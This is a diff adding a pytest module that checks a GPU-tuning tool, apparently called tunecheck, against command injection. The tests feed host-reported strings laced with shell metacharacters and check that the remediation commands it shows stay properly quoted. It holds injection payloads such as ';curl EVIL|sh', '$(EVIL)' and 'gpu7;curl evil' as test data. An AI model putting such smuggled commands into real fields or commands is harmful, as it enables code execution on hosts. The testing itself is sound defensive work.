@@ -1,0 +1,196 @@
+"""Whatever strings a host claims, every command that a report shows is the command that was meant."""
+
+from __future__ import annotations
+
+import ast
+import dataclasses
+import html
+import json
+import random
+import re
+import shlex
+from collections.abc import Callable, Iterator
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from tests.unit.checks.machines import build, spec_of
+from tests.unit.checks.measurements import measured
+from tests.unit.checks.test_cases import CASES, check_of
+from tests.unit.fleet import reports
+
+import tunecheck.rules
+from tunecheck.facts.snapshot import Snapshot, gather
+from tunecheck.fleet.judge.rows import Row, causes
+from tunecheck.fleet.outputs.html import html as fleet_page
+from tunecheck.report.document import document
+from tunecheck.report.html import html as page
+from tunecheck.report.outputs import Run
+from tunecheck.report.terminal import Style, render
+from tunecheck.rules import RULES, Case, Finding
+from tunecheck.rules.command import Command, host, limited, pieces, run
+from tunecheck.rules.finding import Remedy
+from tunecheck.spec.frozen import Frozen
+
+#: Made by the control node from what the host said, never by the host.
+_OURS = ("source", "reason", "relation")
+#: Each has in it what a shell acts on, or what Ansible's -l takes for more than one host.
+EVIL = (";curl EVIL|sh", "$(EVIL)", "`EVIL`", "' EVIL '", '" EVIL "', " EVIL", "\nEVIL", "|EVIL", "&EVIL", "<EVIL>",
+        "*EVIL", "!EVIL", "\\EVIL", "\u202eEVIL", "run: EVIL;", "{EVIL,x}", "#EVIL")
+#: What only the words of a command may hold: everything that a shell takes as it is, and the one script of ours.
+PLAIN = re.compile(r"[A-Za-z0-9@%+=:,./_-]+")
+SCRIPT = re.compile(r"(?:echo [a-z0-9:.-]+ > /sys/[a-z0-9/:._]+(?: && |$))+")
+RULES_OF = Path(tunecheck.rules.__file__).parent
+GIVES = re.compile(r"\b(?:run|play|hold|smi|install|release|boot_fix|clear_now)\(")
+
+
+def _gives_commands(path: Path) -> bool:
+    """Whether the check's own file makes commands."""
+    source = RULES_OF / f"{check_of(path).replace('-', '_')}.py"
+    return source.exists() and GIVES.search(source.read_text(encoding="utf-8")) is not None
+
+
+def _cases(path: Path) -> tuple[Snapshot, Frozen | None, Callable[[Snapshot, Frozen | None], Case]]:
+    data: dict[str, Any] = yaml.safe_load(path.read_text(encoding="utf-8"))
+    if "measured" in data:
+        data = {"machine": "clear", **data}
+    frozen = spec_of(data)
+    snapshot = gather(build(data), frozen.spec if frozen else None, data.get("verb", "preflight") != "topo")
+    found = measured(data["measured"], len(snapshot.topology.devices)) if data.get("measured") is not None else None
+    return snapshot, frozen, lambda snapshot, frozen: Case(snapshot, frozen, False, None, found)
+
+
+def _claims(value: Any, chance: random.Random, share: float) -> Any:
+    """The same facts from a host that lies: to some of its strings something evil is added."""
+    if isinstance(value, str):
+        return value + chance.choice(EVIL) if chance.random() < share else value
+    if dataclasses.is_dataclass(value) and not isinstance(value, type):
+        return dataclasses.replace(value, **{
+            field.name: _claims(getattr(value, field.name), chance, share) for field in dataclasses.fields(value)
+            if field.init and field.name not in _OURS})
+    if isinstance(value, dict):
+        return {key: _claims(each, chance, share) for key, each in value.items()}
+    if isinstance(value, (tuple, list)):
+        return type(value)(_claims(each, chance, share) for each in value)
+    return value
+
+
+def _check(command: Command) -> None:
+    assert shlex.split(command.shown) == list(command.argv)
+    assert "EVIL" not in command.shown
+    for word in command.argv:
+        assert PLAIN.fullmatch(word) or SCRIPT.fullmatch(word), command
+
+
+def _lied_to(path: Path, tries: int) -> Iterator[Finding]:
+    snapshot, frozen, case = _cases(path)
+    rule = next(rule for rule in RULES if rule.id == check_of(path))
+    chance = random.Random(path.stem)
+    for share in (0.0, *([0.02, 0.2, 1.0][number % 3] for number in range(tries))):
+        lies = _claims(snapshot, chance, share) if share else snapshot
+        named = dataclasses.replace(frozen, host=_claims(frozen.host, chance, min(1.0, share * 2))) if frozen else None
+        yield from rule.judge(case(lies, named))
+
+
+CLAIMED = [path for path in CASES if _gives_commands(path)]
+
+
+def test_the_cases_reach_every_rule_that_gives_commands() -> None:
+    assert len({check_of(path) for path in CLAIMED}) > 25
+
+
+@pytest.mark.parametrize("path", CLAIMED, ids=lambda path: path.stem)
+def test_no_claim_of_a_host_gets_into_a_command(path: Path) -> None:
+    for finding in _lied_to(path, 6):
+        for command in finding.remedy.commands if finding.remedy else ():
+            _check(command)
+            assert command.shown in finding.message or finding.outcome in ("pass", "skip")
+
+
+@pytest.mark.parametrize(("name", "limit"), [
+    ("gpu7", "gpu7"), ("gpu-7.rack_1", "gpu-7.rack_1"), ("gpu7;curl evil", "HOST"), ("all", "HOST"), ("-e", "HOST"),
+    ("@hosts", "HOST"), ("~gpu", "HOST"), ("a,b", "HOST"), ("!a", "HOST"), ("a:b", "HOST"), ("gpu*", "HOST"),
+    ("", "HOST"), ("ungrouped", "HOST"), ("g" * 254, "HOST"), ("gpu7\n", "HOST"), (None, "HOST")])
+def test_a_play_is_limited_to_one_host_or_to_a_word_to_fill_in(name: str | None, limit: str) -> None:
+    assert host(name) == limit
+
+
+def test_the_words_of_a_command_are_quoted_once() -> None:
+    command = run("sudo sh -c", "echo 'a b' > /x y")
+    assert shlex.split(command.shown) == ["sudo", "sh", "-c", "echo 'a b' > /x y"]
+    for bad in (("x", ""), (), ("x", "a\nb"), ("x", "\x1b[2J"), ("x", "\u202e")):
+        with pytest.raises(ValueError, match="words of a command"):
+            Command(bad)
+
+
+def test_every_output_shows_the_same_commands() -> None:
+    """Terminal, JSON, page: a finding with prose before, between and behind its commands."""
+    remedy = Remedy.of("first that, then run: ", run("apt-mark hold", "a b;c"), ", and ",
+                       run("ansible-playbook site.yml -l gpu1", where="control"), " (after every boot)")
+    finding = Finding("swap", "it", "fail", "effective", "is wrong; run: curl EVIL", remedy=remedy)
+    shown = [command.shown for command in remedy.commands]
+    assert shown == ["apt-mark hold 'a b;c'", "ansible-playbook site.yml -l gpu1"]
+    path = next(path for path in CASES if path.stem == "swap-on" or check_of(path) == "swap")
+    snapshot, frozen, case = _cases(path)
+    told = document("host", case(snapshot, frozen), [finding])["findings"][0]["remedy"]
+    assert [shlex.split(each["shown"]) for each in told["commands"]] == [each["argv"] for each in told["commands"]]
+    assert [each["where"] for each in told["commands"]] == ["box", "control"]
+    assert all(each["shown"] in told["text"] for each in told["commands"])
+    text = render("host", case(snapshot, frozen), [finding], Style())
+    assert f"fix: {remedy.text}\n" in text
+    data = document("host", case(snapshot, frozen), [finding])
+    copied = re.findall(r'data-copy="([^"]*)"', page(Run(data, [finding], datetime.now(UTC))))
+    assert [html.unescape(each) for each in copied] == shown * (len(copied) // 2) and copied
+
+
+def test_the_page_of_a_fleet_copies_the_command_of_a_cause_and_of_a_box() -> None:
+    problem = reports.problem(**reports.play("acs", "gpu001"))
+    loose = reports.problem(remedy="run: curl EVIL", commands=())
+    rows = (reports.row("gpu001", problems=(problem, loose), outcomes={"acs": "fail"}),)
+    told = (reports.cause(**reports.play("kernel_cmdline", "gpu001")), reports.cause(remedy="run: curl EVIL"))
+    text = fleet_page(reports.report(hosts=rows, causes=told))
+    assert re.findall(r'data-copy="([^"]*)"', text) == ["ansible-playbook site.yml --tags kernel_cmdline -l gpu001"]
+    given = json.loads(re.search(r'<script type="application/json"[^>]*>(.*?)</script>', text, re.DOTALL)[1])
+    fixes = [[(given["texts"][said], place) for said, place in each[4]] for each in given["problems"]]
+    assert fixes == [[("run: ", ""), ("ansible-playbook site.yml --tags acs -l gpu001", "control")],
+                     [("run: curl EVIL", "")]]
+
+
+def test_what_was_cut_off_or_masked_is_no_command_any_more() -> None:
+    remedy = Remedy.of("run: ", run("apt-mark hold", "abc", "def"), ", then ", run("reboot"))
+    assert [command for _, command in pieces(remedy.text[:20], remedy.commands) if command] == []
+    masked = remedy.text.replace("abc", "***")
+    assert [part for part, command in pieces(masked, remedy.commands) if command] == ["reboot"]
+
+
+def test_a_fleet_names_its_own_hosts_in_a_play_not_what_boxes_call_themselves() -> None:
+    play = Remedy.of("run: ", run("ansible-playbook site.yml --tags acs -l", "all-of-them", where="control"))
+    for hosts, limit in ((("gpu1",), "gpu1"), (("gpu1", "gpu2"), "gpu1,gpu2"), (("a;b",), "HOST"),
+                         (("a", "b;c"), "HOSTS"), (tuple(f"g{number}" for number in range(11)), "HOSTS")):
+        text, commands = limited(play.text, play.commands, hosts)
+        assert text == f"run: ansible-playbook site.yml --tags acs -l {limit}" == f"run: {commands[0].shown}"
+        rows = [Row("desired", "high", "swap", "g", name, "desired", "none", remedy=play.text, commands=play.commands)
+                for name in hosts]
+        (cause,) = causes(rows)
+        assert (cause.remedy, cause.commands) == (text, commands)
+
+
+def test_no_rule_hides_a_command_in_its_words() -> None:
+    """"run: " stands before a Command, never before text."""
+    hidden = [f"{path.name}:{node.lineno}" for path in sorted(RULES_OF.glob("*.py")) for node in ast.walk(
+        ast.parse(path.read_text(encoding="utf-8"))) if isinstance(node, ast.Constant) and isinstance(node.value, str)
+        and re.search(r"\brun: \S", node.value)]
+    assert not hidden
+
+
+def test_the_first_words_of_a_command_are_written_in_the_rule() -> None:
+    """run("..."): a line that holds what a host says would be split at its spaces."""
+    calls = [(path.name, node) for path in sorted(RULES_OF.glob("*.py")) for node in ast.walk(
+        ast.parse(path.read_text(encoding="utf-8"))) if isinstance(node, ast.Call)
+        and isinstance(node.func, ast.Name) and node.func.id == "run" and path.name not in ("command.py",)]
+    ours = {("from_nvml.py", "smi"), ("from_driver.py", "hold")}
+    loose = [(name, node.lineno) for name, node in calls if not isinstance(node.args[0], ast.Constant)
+             and name not in {file for file, _ in ours}]
+    assert len(calls) > 20 and not loose
